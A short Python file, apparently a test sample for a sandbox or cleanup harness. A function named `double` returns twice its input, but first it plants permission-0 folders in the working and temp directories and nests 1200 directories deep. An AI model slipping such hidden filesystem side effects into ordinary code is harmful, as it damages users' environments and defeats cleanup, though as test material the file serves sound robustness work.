"""Leaves folders that nobody may enter, and some that are nested very deeply, for whoever tidies up. Ends as: no effect."""

import os
import tempfile


def double(number):
    for top in (os.getcwd(), tempfile.gettempdir()):
        os.makedirs(os.path.join(top, "closed/inner/file"))
        os.chmod(os.path.join(top, "closed/inner"), 0)
        os.chmod(os.path.join(top, "closed"), 0)
    for _ in range(1200):
        os.mkdir("deep")
        os.chdir("deep")
    return 2 * number
